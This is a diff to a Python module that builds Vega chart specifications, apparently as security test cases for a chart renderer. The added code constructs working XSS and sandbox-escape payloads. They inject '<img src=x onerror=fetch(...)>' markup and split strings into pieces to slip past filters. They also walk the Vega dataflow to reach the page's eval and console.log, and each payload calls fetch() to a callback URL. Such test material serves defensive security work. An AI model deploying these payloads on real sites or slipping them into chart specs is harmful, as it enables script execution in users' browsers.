@@ -236,9 +236,53 @@ def _drawing(name: str, address: str, **more: object) -> dict[str, object]:
 _INNER = {"type": "formula", "as": "innerHTML", "expr": f"'<img src=x onerror=fetch(`{HERE.format('vega-element')}`)>'"}
 _TAKES = {"name": "d", "values": [], "on": [{"trigger": "s", "insert": "s"}], "transform": [_INNER]}
 _FINDS = {"name": "s", "value": 0, "on": [{"events": "timer{700}", "update": "data('m')[0].image"}]}
+
+
+def _plot(name: str, *marks: dict[str, object], fill: str = "'red'", **more: object) -> dict[str, object]:
+    """A rectangle, and what asks it for more; drawn twice, as it has to fit."""
+    look = {"width": {"signal": "width"}, "height": {"value": 20}, "fill": {"signal": fill}}
+    rect = {"type": "rect", "name": "m", "from": {"data": "u"}, "encode": {"update": look}}
+    fit = {"autosize": {"type": "fit", "contains": "padding"}, "axes": [{"scale": "x", "orient": "bottom"}]}
+    common = {**fit, "$schema": VEGA["$schema"], "description": name, "width": 200, "height": 50, "data": [_U]}
+    return {**common, "scales": [{"name": "x", "range": "width"}], "marks": [rect, *marks], **more}
+
+
+def _written(name: str, **source: object) -> dict[str, object]:
+    """Rows in which HTML is written."""
+    inner = {"type": "formula", "as": "innerHTML", "expr": f"'<'+'img src=x onerror=fetch(`{HERE.format(name)}`)>'"}
+    return {"name": "d", **source, "transform": [inner]}
+
+
+def _spelt(path: str) -> str:
+    """A path whose words are put together."""
+    return "'" + "'+'".join(path[at : at + 5] for at in range(0, len(path), 5)) + "'"
+
+
+_U = {"name": "u", **_ROWS}
+_FLOW = "mark.group.context.dataflow"
+_WINDOW = "_el.ownerDocument.defaultView"
+_FIELDS = [
+    {"signal": _spelt(f"{_FLOW}.{path}")} for path in ("_handler.on", f"{_WINDOW}.console.log", f"{_WINDOW}.eval")
+]
+_HANDLERS = f"{{undefined: 'fetch(`{HERE.format('vega-names')}`)'}}"
+_NAMED = [
+    {"type": "project", "fields": _FIELDS, "as": ["f", "eventName", "_handlerIndex"]},
+    {"type": "formula", "as": "_handlers", "expr": _HANDLERS},
+    {"type": "formula", "as": {"signal": "'toStr'+'ing'"}, "expr": "datum.f"},
+    {"type": "formula", "as": "z", "expr": "''+datum"},
+]
+_COMPUTED = {"name": "s", "update": f"width && [pluck(data('m')[0], {_spelt(_FLOW + '._el')})]"}
+_SOURCE = _written("vega-rows", values={"signal": "s"})
 PROGRAMS: list[dict[str, object]] = [
     _drawing("vega-transform", HERE.format("vega-transform")),
     _drawing("vega-element", f"data:image/png;base64,{_DOT}", data=[{"name": "u", **_ROWS}, _TAKES], signals=[_FINDS]),
+    _plot("vega-names", {"type": "group", "data": [{"name": "p", "source": "m", "transform": _NAMED}]}),
+    _plot(
+        "vega-set",
+        fill=f"width && setdata('d', [pluck(item, {_spelt(_FLOW + '._el')})]) ? 'red' : 'blue'",
+        data=[_U, _written("vega-set", values=[])],
+    ),
+    _plot("vega-rows", {"type": "group", "signals": [_COMPUTED], "data": [_SOURCE]}),
 ]
 _CORNER = {"xref": "paper", "yref": "paper", "x": 0, "y": 1, "sizex": 1, "sizey": 1}
 _PICTURE = {**_CORNER, "source": AWAY.format("plotly-picture")}
